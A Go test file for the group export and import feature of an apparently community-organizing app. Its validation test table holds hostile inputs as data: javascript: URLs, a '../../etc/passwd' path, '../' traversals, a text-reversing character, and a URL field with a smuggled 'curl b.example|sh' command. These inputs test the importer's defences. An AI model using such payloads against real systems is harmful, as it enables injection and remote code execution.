package app_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"convoke/internal/app"
	"convoke/internal/archive"
	"convoke/internal/authz"
	"convoke/internal/db"
	"convoke/internal/db/dbtest"
	"convoke/internal/feature/attendance"
	"convoke/internal/feature/campaigns"
	"convoke/internal/feature/events"
	"convoke/internal/feature/groups"
	"convoke/internal/feature/members"
	"convoke/internal/feature/statements"
	"convoke/internal/feature/tasks"
	"convoke/internal/feature/turnout"
	"convoke/internal/id"
)

// rivers is how many rows the group of [stand.riverside] has.
const rivers = 35

// riverside is a group with some of everything.
func (s *stand) riverside() (steward authz.Actor, g id.Group, ids map[string]id.Event) {
	t, ctx := s.t, s.t.Context()
	t.Helper()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	s.Config.BaseURL = "http://example.org" // where the record of petitions is
	_, steward = s.signIn("sam")
	g = s.group(steward, "riverside", "Riverside Neighbours")
	must(s.Groups.SetNewcomers(ctx, steward, "riverside", groups.SettingsInput{Joining: groups.ByRequest, Welcome: "Come *in*."}))
	must(s.Groups.SetConduct(ctx, steward, "riverside", "Be kind.", ""))
	must(s.Groups.SetConduct(ctx, steward, "riverside", "Be kind, and on time.", ""))
	must(s.Groups.Announce(ctx, steward, "riverside", groups.AnnounceInput{Key: s.IDs.Secret(), Title: "Keys", Body: "They are at the library."}))
	must(s.Members.SetStart(ctx, steward, "riverside", members.StartInput{Shown: true, Does: "We *dig*.", First: "Come along.", Ask: "Whoever wears green"}))
	_, err := s.Tasks.Add(ctx, steward, "riverside", tasks.Input{Key: s.IDs.Secret(), Title: "Buy paint", Note: "Some **green**.", Until: "2026-06-01", Mine: true})
	must(err)
	_, err = s.Campaigns.Create(ctx, steward, "riverside", s.IDs.Secret(), campaigns.Input{
		Handle: "open-doors", Title: "Open doors", Statement: "All of them.", Lang: "en", State: campaigns.Open, Dates: "2026-06-05 to 2026-06-07\n2026-07-01",
	})
	must(err)
	must(s.Campaigns.Translate(ctx, steward, "open-doors", "de", "Offene Türen", "Alle."))
	must(s.Campaigns.SetPoints(ctx, steward, "open-doors", 0, "We stay *calm*."))
	must(s.Campaigns.AddDemand(ctx, steward, "open-doors", 0, campaigns.DemandInput{Body: "Open the doors", Addressee: "The house"}))
	must(s.Campaigns.ChangeDemand(ctx, steward, "open-doors", 1, campaigns.DemandInput{State: "partly_met", Note: "One of them"}))
	must(s.Campaigns.SetTemplate(ctx, steward, "open-doors", 0, campaigns.Template{Title: "Open doors day", Description: "Come by."}))
	ids = map[string]id.Event{}
	far := meeting("Open assembly", "2026-06-06")
	far.Description, far.AccessYes, far.AccessNote, far.Capacity = "Bring **chairs**.", []string{"step_free"}, "Ramp at the back", "80"
	ids["far"] = s.event(steward, g, far)
	must(s.Attendance.AddSlot(ctx, ids["far"], s.IDs.Secret(), at(t, "2026-06-06 18:00"), at(t, "2026-06-06 20:00"), attendance.SlotInput{
		Title: "First hour", StartDate: "2026-06-06", StartTime: "18:00", EndTime: "19:00", Capacity: "20",
	}))
	must(s.Attendance.SetReminders(ctx, ids["far"], true, "https://example.org/tell"))
	must(s.Events.SetProgramme(ctx, steward, ids["far"], 0, events.ProgrammeInput{
		Bring: "Water", Safety: []events.SafetyAnswer{{Point: "permit", Answer: "yes"}},
		Contingents: []events.ContingentInput{{Row: "c1", Name: "Bicycles", Time: "18:30"}}, Roles: []events.RoleInput{{Row: "r1", Code: "medic", People: "2"}},
	}))
	must(s.Events.Translate(ctx, steward, ids["far"], 1, events.VersionInput{
		Lang: "ar", Title: "جمعية مفتوحة", Description: "أحضر **كراسي**.", Bring: "ماء", Credit: "مريم",
	}))
	draft := meeting("Not yet", "2026-06-07")
	draft.State = events.Draft
	ids["draft"] = s.event(steward, g, draft)
	under := meeting("", "2026-06-05")
	under.Campaign = "open-doors"
	ids["under"] = s.event(steward, g, under)
	past := meeting("Long ago", "2026-02-02")
	ids["past"] = s.event(steward, g, past)
	for _, from := range []string{"The press", "Ourselves"} {
		must(s.Turnout.AddEstimate(ctx, steward, ids["past"], s.IDs.Secret(), turnout.Input{Low: "40", High: "50", Method: "eye", SourceName: from}))
	}
	key, err := s.KeepPicture(ctx, bytes.NewReader(picture(t)))
	must(err)
	must(s.Events.SetPicture(ctx, steward, ids["far"], key))
	for _, x := range [][2]string{{"We say so", ""}, {"And so", "open-doors"}} {
		_, err := s.Statements.Create(ctx, steward, "riverside", s.IDs.Secret(), statements.Input{
			Title: x[0], Campaign: x[1], Markdown: "So **it** is.", Lang: "en", Day: "2026-02-03", State: statements.Published, Tags: "one, two", Byline: "The table",
		})
		must(err)
	}
	s.organized(steward, g, ids)
	s.asked(steward)
	s.pledged(steward, ids)
	s.gathered(steward)
	s.voted(steward)
	s.climbed(steward)
	s.clock.Add(time.Hour)
	return steward, g, ids
}

// organized adds what organizers decide around events: dates that repeat, with one
// on which nothing is and one that says something itself; who confirms roles; and
// what was counted and answered.
func (s *stand) organized(steward authz.Actor, g id.Group, ids map[string]id.Event) {
	t, ctx := s.t, s.t.Context()
	t.Helper()
	ids["weekly"] = s.event(steward, g, meeting("Weekly table", "2026-06-08"))
	err := errors.Join(
		s.Events.Repeat(ctx, steward, ids["weekly"], s.IDs.Secret(), "", events.RepeatInput{
			Every: "1", Unit: events.Weeks, End: "times", Times: "4", Except: []string{"2026-06-22"},
		}),
		s.Events.SetProgramme(ctx, steward, ids["weekly"], 0, events.ProgrammeInput{Roles: []events.RoleInput{{Row: "r1", Code: "medic", People: "3"}}}),
		s.Roles.SetRule(ctx, steward, ids["far"], 2),
		s.DB.Write(ctx, func(tx *db.Tx) error {
			_, err := tx.Exec(ctx, `insert into door_total (event_id, starts_at, ends_at, off, attended, walk_ins, cleared)
				values ($1, 0, 0, $2, 12, 3, $3)`, string(ids["past"]), false, true)
			_, err1 := tx.Exec(ctx, "update event set was_starts_at = 1769000000000000, was_zone = 'America/Denver', was_all_day = $2 where id = $1", string(ids["past"]), true)
			_, err3 := tx.Exec(ctx, "update slot set event_at = 1769000000000000 where event_id = $1", string(ids["far"]))
			err = errors.Join(err, err1, err3)
			for e, people := range map[string]int{"past": 9, "under": 2} {
				_, err2 := tx.Exec(ctx, "insert into feedback_total (event_id, question, answer, people) values ($1, 'mood', 'good', $2)", string(ids[e]), people)
				err = errors.Join(err, err2)
			}
			return err
		}),
	)
	if err != nil {
		t.Fatal(err)
	}
}

// organizedToo says whether that has come along to another server.
func (s *stand) organizedToo(ids map[string]id.Event, parts map[string]string) {
	t, ctx := s.t, s.t.Context()
	t.Helper()
	for _, part := range []string{`"door":{"attended":12,"walk_ins":3}`, `"feedback":[{"question":"mood","answer":"good","people":9}]`, `"roles":{"confirmers":2}`, `"was_zone":"America/Denver","was_all_day":true`, `"event_start":"2026-01-21T12:53:20Z"`} {
		if strings.Count(parts["events.json"], part) != 1 {
			t.Errorf("events.json has not one %s: %s", part, parts["events.json"])
		}
	}
	if strings.Contains(parts["events.json"], `"answer":"good","people":2`) {
		t.Error("so few answers could be known")
	}
	for _, part := range []string{`"rule":"FREQ=WEEKLY;BYDAY=MO;COUNT=4"`, `{"day":"2026-06-22","event":"","own":[]}`, string(ids["weekly"]), `"own":["programme"]`} {
		if !strings.Contains(parts["series.json"], part) {
			t.Errorf("series.json lacks %s: %s", part, parts["series.json"])
		}
	}
	err := s.DB.Read(ctx, func(tx *db.Tx) error {
		var needed, dates int
		err := tx.Get(ctx, "select needed from role_count where event_id = $1 and role = 'medic'", []any{string(ids["weekly"])}, &needed)
		err2 := tx.Get(ctx, "select count(*) from series_date where event_id is not null", nil, &dates)
		if needed != 3 || dates != 3 {
			t.Errorf("%d needed, %d dates", needed, dates)
		}
		return errors.Join(err, err2)
	})
	if err != nil {
		t.Error(err)
	}
}

func at(t *testing.T, s string) time.Time {
	t.Helper()
	loc, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Fatal(err)
	}
	x, err := time.ParseInLocation("2006-01-02 15:04", s, loc)
	if err != nil {
		t.Fatal(err)
	}
	return x
}

func (s *stand) archived(g id.Group) []byte {
	s.t.Helper()
	var b bytes.Buffer
	if err := s.ExportGroup(s.t.Context(), g, &b, nil); err != nil {
		s.t.Fatal(err)
	}
	return b.Bytes()
}

func (s *stand) takeIn(b []byte, o app.ImportGroupOptions) (app.ImportedGroup, *archive.Report) {
	s.t.Helper()
	r := archive.NewReport()
	done, err := s.ImportGroup(s.t.Context(), bytes.NewReader(b), int64(len(b)), o, r)
	if err != nil {
		s.t.Fatal(err)
	}
	return done, r
}

// contents are the parts of an archive by name.
func contents(t *testing.T, b []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		x, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(x)
	}
	return out
}

// moved drops from an archive what differs after a move: who wrote it, how many
// members there are, and what names the server.
func moved(parts map[string]string) map[string]string {
	out := maps.Clone(parts)
	for _, name := range []string{"manifest.json", "members.json"} {
		delete(out, name)
	}
	return out
}

// A group moves to another server, on either engine, and is the same there: what
// it exports again, and what its pages show.
func TestAGroupMovesWhole(t *testing.T) {
	t.Parallel()
	for _, way := range []string{"sqlite to sqlite", "sqlite to postgres", "postgres to sqlite", "postgres to postgres"} {
		t.Run(way, func(t *testing.T) {
			t.Parallel()
			engine := func(name string) *stand {
				url := ""
				if name == "postgres" {
					url = dbtest.Postgres(t)
				}
				cfg := settings(t, url)
				cfg.BaseURL = "http://example.org"
				return start(t, cfg)
			}
			from, to, _ := strings.Cut(way, " to ")
			a, b := engine(from), engine(to)
			_, g, ids := a.riverside()
			b.clock.Add(time.Hour)
			file := a.archived(g)
			b.signIn("other")
			dry, report := b.takeIn(file, app.ImportGroupOptions{DryRun: true})
			if len(report.Rows) > 0 || dry.Invitation != "" || b.visitor().Get("/groups/riverside").Status != 404 {
				t.Fatalf("a dry run: %+v, %+v", dry, report.Rows)
			}
			done, report := b.takeIn(file, app.ImportGroupOptions{})
			if len(report.Rows) > 0 || !done.New || report.Sum().New != rivers {
				t.Fatalf("rows that were not taken as they are: %+v, %+v", report.Rows, report.Sum())
			}
			again := b.archived(done.Group)
			if d := cmp.Diff(moved(contents(t, file)), moved(contents(t, again))); d != "" {
				t.Errorf("the second archive differs:\n%s", d)
			}
			b.organizedToo(ids, contents(t, again))
			b.askedToo()
			b.pledgedToo()
			b.votedToo()
			b.climbedToo()
			for _, path := range []string{
				"/assemblies", "/assemblies/" + a.column("select id from assembly where state = 'closed'")[0] + "/minutes",
				"/groups/riverside", "/events/" + string(ids["far"]), "/events/" + string(ids["weekly"]), "/events/" + string(ids["weekly"]) + "/dates", "/events/" + string(ids["under"]), "/events/" + string(ids["past"]),
				"/groups/riverside/start", "/petitions?state=waiting", "/petitions?state=closed", "/groups/riverside/events.ics", "/groups/riverside/conduct", "/campaigns/open-doors", "/campaigns/open-doors?lang=de",
				"/events.csv", "/events.ics", "/statements", "/statements.atom", "/statements?campaign=open-doors", "/turnout", "/groups/riverside.json",
			} {
				x, y := a.visitor().Get(path), b.visitor().Get(path)
				if x.Status != 200 || y.Status != 200 {
					t.Errorf("%s: %d, then %d", path, x.Status, y.Status)
				}
				if d := cmp.Diff(x.Body, y.Body); d != "" {
					t.Errorf("%s is another page:\n%s", path, d)
				}
			}
			drifts(t, b)
			_, report = b.takeIn(file, app.ImportGroupOptions{})
			if s := report.Sum(); s.New+s.Differs+s.Left > 0 || s.Unchanged != rivers {
				t.Errorf("taken in again: %+v, %+v", s, report.Rows)
			}
			_, report = a.takeIn(file, app.ImportGroupOptions{})
			if s := report.Sum(); s.Unchanged != rivers || len(report.Rows) > 0 {
				t.Errorf("taken in at home: %+v, %+v", s, report.Rows)
			}
			// The link makes the first steward.
			secret := done.Invitation[strings.LastIndexByte(done.Invitation, '/')+1:]
			j, err := b.Identity.AcceptNew(t.Context(), secret, "", "newcomer", 2)
			if err != nil {
				t.Fatal(err)
			}
			if got := b.visitor().WithSession(j.Session).Get("/groups/riverside/edit").Status; got != 200 {
				t.Errorf("the first steward gets %d", got)
			}
		})
	}
}

func drifts(t *testing.T, s *stand) {
	t.Helper()
	err := s.DB.Read(t.Context(), func(tx *db.Tx) error {
		days, err := turnout.Drifts(t.Context(), tx)
		public, indexed, err2 := events.TextDrift(t.Context(), tx)
		if len(days) > 0 || public != indexed {
			t.Errorf("totals drift: %v; %d events, %d indexed", days, public, indexed)
		}
		return errors.Join(err, err2)
	})
	if err != nil {
		t.Fatal(err)
	}
}

// What is here already keeps its names; what comes in gets others, which the
// report maps.
func TestTakenNamesAreChanged(t *testing.T) {
	t.Parallel()
	a := start(t, settings(t, ""))
	_, g, ids := a.riverside()
	file := a.archived(g)
	b := start(t, settings(t, ""))
	b.clock.Add(time.Hour)
	_, sam := b.signIn("sam")
	other := b.group(sam, "riverside", "Riverside of old")
	if _, err := b.Campaigns.Create(t.Context(), sam, "riverside", b.IDs.Secret(), campaigns.Input{Handle: "open-doors", Title: "Theirs", Lang: "en", State: campaigns.Open}); err != nil {
		t.Fatal(err)
	}
	e := b.event(sam, other, meeting("Ours", "2026-06-06"))
	if err := b.DB.Write(t.Context(), func(tx *db.Tx) error {
		_, err := tx.Exec(t.Context(), "update event set id = $1 where id = $2 and not exists (select 1 from roster where event_id = $2)", string(ids["draft"]), string(e))
		return err
	}); err != nil {
		t.Fatal(err)
	}
	r := archive.NewReport()
	_, err := b.ImportGroup(t.Context(), bytes.NewReader(file), int64(len(file)), app.ImportGroupOptions{}, r)
	if !errors.Is(err, groups.ErrHandleTaken) {
		t.Fatalf("a handle that is taken: %v", err)
	}
	done, r := b.takeIn(file, app.ImportGroupOptions{Handle: "riverside-new"})
	if done.Handle != "riverside-new" || r.Renamed["campaigns"]["open-doors"] != "open-doors-2" {
		t.Errorf("%+v, %+v", done, r.Renamed)
	}
	if got := b.visitor().Get("/campaigns/open-doors").Body; !strings.Contains(got, "Theirs") {
		t.Error("the campaign that was here is not what it was")
	}
	_, r = b.takeIn(file, app.ImportGroupOptions{})
	if s := r.Sum(); s.Unchanged != rivers {
		t.Errorf("again: %+v, %+v", s, r.Rows)
	}
	if _, err := b.ImportGroup(t.Context(), bytes.NewReader(file), int64(len(file)), app.ImportGroupOptions{Handle: "another"}, archive.NewReport()); err == nil {
		t.Error("a group got another handle")
	}
}

// A group that is here is never changed by a file, whatever that says.
func TestAFileChangesNoGroup(t *testing.T) {
	t.Parallel()
	a := start(t, settings(t, ""))
	sam, g, ids := a.riverside()
	file := a.archived(g)
	if err := a.Groups.Edit(t.Context(), sam, "riverside", groups.CreateInput{Name: "Riverside Friends", Langs: []string{"de"}, Anyway: true}); err != nil {
		t.Fatal(err)
	}
	parts := contents(t, file)
	parts["events.json"] = strings.Replace(parts["events.json"], "Open assembly", "Closed assembly", 1)
	parts["events.json"] = strings.Replace(parts["events.json"], string(ids["draft"]), a.IDs.New(), 1)
	before := a.archived(g)
	_, r := a.takeIn(pack(t, parts, g), app.ImportGroupOptions{})
	codes := map[string]int{}
	for _, p := range r.Rows {
		codes[p.Part+" "+p.Code]++
	}
	if d := cmp.Diff(map[string]int{"group differs": 1, "events differs": 1, "events missing": 1}, codes); d != "" {
		t.Errorf("%s", d)
	}
	if !bytes.Equal(before, a.archived(g)) {
		t.Error("the group has changed")
	}
}

// pack makes an archive of parts, with a manifest that fits them.
func pack(t *testing.T, parts map[string]string, g id.Group) []byte {
	t.Helper()
	var b bytes.Buffer
	w := archive.NewWriter(&b, archive.Manifest{Node: "https://old.example", Day: "2026-05-01", Group: archive.Group{ID: g, Handle: "riverside", Name: "R"}})
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		if name == "manifest.json" {
			continue
		}
		if err := w.File(name, []byte(parts[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(t.Context()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// What a form would refuse is left out and named; what is not of the format stops
// the whole import, and nothing is stored.
func TestWhatAFileMaySay(t *testing.T) {
	t.Parallel()
	a := start(t, settings(t, ""))
	_, g, ids := a.riverside()
	parts := contents(t, a.archived(g))
	for name, x := range map[string]struct {
		part, old, new string
		left           string // what the report names, "" when the file is refused
	}{
		"a kind that is unknown":        {"events.json", `"kind":"meeting"`, `"kind":"siege"`, "events invalid"},
		"a zone that is unknown":        {"events.json", `"zone":"Europe/Berlin"`, `"zone":"Mars/Base"`, "events invalid"},
		"an end before the start":       {"events.json", `"end":"2026`, `"end":"2025`, "events invalid"},
		"a title that is too long":      {"events.json", `"title":"Open assembly"`, `"title":"` + strings.Repeat("x", 300) + `"`, "events invalid"},
		"a place beyond the Earth":      {"events.json", `"lat":51`, `"lat":951`, "events invalid"},
		"too many people":               {"events.json", `"capacity":80`, `"capacity":80000000`, "events invalid"},
		"a script as an address":        {"events.json", `"online_url":""`, `"online_url":"javascript:alert(1)"`, "events invalid"},
		"an id of another kind":         {"events.json", `"id":"` + string(ids["far"]), `"id":"../../etc/passwd`, "events invalid"},
		"a rule that is none":           {"series.json", `"rule":"FREQ=WEEKLY`, `"rule":"FREQ=SECONDLY`, "series invalid"},
		"a rule that goes on for ever":  {"series.json", `"continues":false`, `"continues":true`, "series invalid"},
		"a day that is none":            {"series.json", `"day":"2026-06-22"`, `"day":"2026-02-31"`, "series invalid"},
		"a date of another event":       {"series.json", `"event":"` + string(ids["weekly"]), `"event":"` + a.IDs.New(), "series dates"},
		"one event on two dates":        {"series.json", `"day":"2026-06-22","event":""`, `"day":"2026-06-22","event":"` + string(ids["weekly"]) + `"`, "series invalid"},
		"an answer that is unknown":     {"events.json", `"answer":"good"`, `"answer":"great"`, "events invalid"},
		"fewer than nobody at the door": {"events.json", `"walk_ins":3`, `"walk_ins":-3`, "events invalid"},
		"three who confirm":             {"events.json", `"confirmers":2`, `"confirmers":3`, "events invalid"},
		"a method that is unknown":      {"events.json", `"method":"eye"`, `"method":"guess"`, "events invalid"},
		"a timeslot without a name":     {"events.json", `"title":"First hour"`, `"title":""`, "events invalid"},
		"marks that turn text around":   {"events.json", `"title":"Open assembly"`, `"title":"Open \u202eassembly"`, "events characters"},
		"a picture that is not there":   {"events.json", `"picture":"pictures/`, `"picture":"pictures/x`, "events picture"},
		"a picture outside":             {"events.json", `"picture":"pictures/`, `"picture":"../pictures/`, "events picture"},
		"Markdown without an end":       {"statements.json", "So **it** is.", strings.Repeat("![x](", 4000), "statements invalid"},
		"a day to come":                 {"statements.json", `"day":"2026-02-03"`, `"day":"2036-02-03"`, "statements invalid"},
		"a slug that leads elsewhere":   {"statements.json", `"slug":"`, `"slug":"../`, "statements invalid"},
		"an update of others' campaign": {"statements.json", `"campaign":"`, `"campaign":"x`, "statements campaign"},
		"a state that is unknown":       {"campaigns.json", `"state":"open"`, `"state":"won"`, "campaigns invalid"},
		"a history that leads nowhere":  {"campaigns.json", `"state":"partly_met","history"`, `"state":"met","history"`, "campaigns invalid"},
		"a petition without a record":   {"petitions.json", `"state":"draft"`, `"state":"answered"`, "petitions invalid"},
		"a record that is a script":     {"petitions.json", `"server":"http:`, `"server":"javascript:`, "petitions invalid"},
		"a command for a server":        {"petitions.json", `"server":"http://example.org"`, `"server":"https://a.example/;curl b.example|sh;"`, "petitions invalid"},
		"fewer than nobody who signed":  {"petitions.json", `"counted":3`, `"counted":-3`, "petitions invalid"},
		"a petition that goes on":       {"petitions.json", `"state":"closed"`, `"state":"open"`, "petitions elsewhere"},
		"a campaign of others":          {"petitions.json", `"campaign":"`, `"campaign":"x`, "petitions campaign"},
		"a delivery that is a script":   {"petitions.json", `"url":""`, `"url":"javascript:alert(1)"`, "petitions invalid"},
		"a pledge without a record":     {"pledges.json", `"state":"draft"`, `"state":"reached"`, "pledges invalid"},
		"a box that is a path":          {"pledges.json", `"box":"`, `"box":"../`, "pledges invalid"},
		"more pledges than people":      {"pledges.json", `"counted":3`, `"counted":300000000000`, "pledges invalid"},
		"a curve that falls":            {"pledges.json", `[{"threshold":3,`, `[{"threshold":9,"people":1},{"threshold":3,`, "pledges invalid"},
		"a success of no part":          {"pledges.json", `"reached":[{"part":-1`, `"reached":[{"part":7`, "pledges invalid"},
		"a pledge that goes on":         {"pledges.json", `"state":"reached"`, `"state":"open"`, "pledges elsewhere"},
		"a pledge of others' event":     {"pledges.json", `"event":"`, `"event":"x`, "pledges event"},
		"a pledge of others":            {"pledges.json", `"owners":["riverside"]`, `"owners":["riverside","hill"]`, "pledges owners"},
		"rules without a day":           {"conduct.json", `"day":"2026`, `"day":"x2026`, "conduct invalid"},
		"a member twice":                {"events.json", `"kind":"meeting"`, `"kind":"meeting","kind":"rally"`, ""},
		"a member in other letters":     {"events.json", `"kind":"meeting"`, `"kind":"meeting","Kind":"rally"`, ""},
		"a member that is unknown":      {"events.json", `"kind":"meeting"`, `"kind":"meeting","attendees":[]`, ""},
		"something attached, unknown":   {"events.json", `"timeslots":`, `"sign_up_list":`, ""},
		"a number for a text":           {"events.json", `"kind":"meeting"`, `"kind":7`, ""},
		"a text for a number":           {"events.json", `"capacity":80`, `"capacity":"80"`, ""},
		"a list that is none":           {"events.json", "[\n", "{\n", ""},
		"a list that does not end":      {"events.json", "\n]\n", "\n", ""},
		"something behind the list":     {"events.json", "\n]\n", "\n]\n[]", ""},
		"values within values":          {"events.json", `"kind":"meeting"`, `"kind":` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000), ""},
		"text that is not UTF-8":        {"events.json", "Open assembly", "Open \xff assembly", ""},
		"a row that is too large":       {"events.json", "Open assembly", strings.Repeat("x", 9<<20), ""},
		"a group without a name":        {"group.json", `"name": "Riverside Neighbours"`, `"name": ""`, ""},
		"an assembly that is an event":  {"assemblies.json", `"state":"called"`, `"state":"public"`, "assemblies invalid"},
		"minutes before the assembly":   {"assemblies.json", `"state":"closed"`, `"state":"called"`, "assemblies invalid"},
		"minutes for whom":              {"assemblies.json", `"minutes":"public"`, `"minutes":"friends"`, "assemblies invalid"},
		"an assembly without an end":    {"assemblies.json", `"ends":"2026`, `"ends":"2025`, "assemblies invalid"},
		"an assembly that lasts":        {"assemblies.json", `"ends":"2026`, `"ends":"2027`, "assemblies invalid"},
		"an assembly nowhere":           {"assemblies.json", `"zone":"Europe/Berlin"`, `"zone":"Mars/Base"`, "assemblies invalid"},
		"an item that leads elsewhere":  {"assemblies.json", `"link":"/about"`, `"link":"https://a.example/"`, "assemblies invalid"},
		"a notice of years":             {"assembly_rule.json", `"notice":3`, `"notice":900`, "assembly_rule invalid"},
		"an item of no state":           {"assemblies.json", `"state":"waiting"`, `"state":"lost"`, "assemblies invalid"},
		"a decision of no words":        {"assemblies.json", `"decisions":["Two benches."]`, `"decisions":[""]`, "assemblies invalid"},
		"a task for no day":             {"assemblies.json", `"until":"2026-06-01"`, `"until":"soon"`, "assemblies invalid"},
		"a proposal of no state":        {"proposals.json", `"state":"decided"`, `"state":"won"`, "proposals invalid"},
		"a vote that goes on":           {"proposals.json", `"state":"decided"`, `"state":"frozen"`, "proposals elsewhere"},
		"a decision of no day":          {"proposals.json", `"state":"decided"`, `"state":"discussed"`, "proposals invalid"},
		"an election of delegates":      {"proposals.json", `"effect":"demand"`, `"effect":"delegate"`, "proposals invalid"},
		"an effect on others":           {"proposals.json", `"subject":""`, `"subject":"01x"`, "proposals invalid"},
		"a proposal of others":          {"proposals.json", `"campaign":"`, `"campaign":"x`, "proposals campaign"},
		"one option":                    {"proposals.json", `"options":["One","Two"]`, `"options":["One"]`, "proposals invalid"},
		"a vote of no kind":             {"proposals.json", `"kind":"vote"`, `"kind":"war"`, "proposals invalid"},
		"a weight below nothing":        {"proposals.json", `"weight":0`, `"weight":-1`, "proposals invalid"},
		"a vote told by a script":       {"proposals.json", `"server":"http:`, `"server":"javascript:`, "proposals invalid"},
		"a vote without a record":       {"proposals.json", `"record":{`, `"record":null,"opens":"x","x":{`, ""},
		"an earlier text of no day":     {"proposals.json", `"note":"One is not enough.","day":"2026`, `"note":"One is not enough.","day":"x2026`, "proposals invalid"},
		"a plan that is none":           {"ladders.json", `"plan":"{`, `"plan":"[{`, "ladders invalid"},
		"a step of no state":            {"ladders.json", `"state":"halted"`, `"state":"lost"`, "ladders invalid"},
		"a step of no kind":             {"ladders.json", `"kind":"walkout","state"`, `"kind":"siege","state"`, "ladders invalid"},
		"a ladder told by a script":     {"ladders.json", `"server":"http:`, `"server":"javascript:`, "ladders invalid"},
		"a ladder of others":            {"ladders.json", `"campaign":"`, `"campaign":"x`, "ladders campaign"},
		"a campaign that gave up":       {"ladders.json", `"down":null`, `"down":{"reason":"tired","at":"2026-05-01T00:00:00Z"}`, "ladders invalid"},
		"a version below one":           {"ladders.json", `"version":1`, `"version":0`, "ladders invalid"},
		"a task without a title":        {"tasks.json", `"title":"Buy paint"`, `"title":" "`, "tasks invalid"},
		"a task of no day":              {"tasks.json", `"until":"2026-06-01"`, `"until":"soon"`, "tasks invalid"},
		"a long word whom to ask":       {"start.json", `"ask":"Whoever wears green"`, `"ask":"` + strings.Repeat("x", 300) + `"`, "start invalid"},
		"a group with a bad handle":     {"group.json", `"handle": "riverside"`, `"handle": "admin"`, ""},
		"a group that is another":       {"group.json", `"id": "` + string(g), `"id": "` + a.IDs.New(), ""},
		"an import that is only a name": {"group.json", "{", "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := start(t, settings(t, ""))
			b.clock.Add(time.Hour)
			changed := maps.Clone(parts)
			changed[x.part] = strings.Replace(parts[x.part], x.old, x.new, 1)
			if changed[x.part] == parts[x.part] {
				t.Fatalf("%s has no %s", x.part, x.old)
			}
			file := pack(t, changed, g)
			r := archive.NewReport()
			done, err := b.ImportGroup(t.Context(), bytes.NewReader(file), int64(len(file)), app.ImportGroupOptions{}, r)
			page := b.visitor().Get("/groups/riverside").Status
			if x.left == "" {
				if !errors.Is(err, archive.ErrUnreadable) || page != 404 || done.Invitation != "" {
					t.Errorf("got %v; the group's page answers %d", err, page)
				}
				return
			}
			if err != nil || page != 200 {
				t.Fatalf("got %v; the group's page answers %d", err, page)
			}
			if !slices.ContainsFunc(r.Rows, func(p archive.Problem) bool { return p.Part+" "+p.Code == x.left }) {
				t.Errorf("the report says %+v", r.Rows)
			}
			drifts(t, b)
		})
	}
}
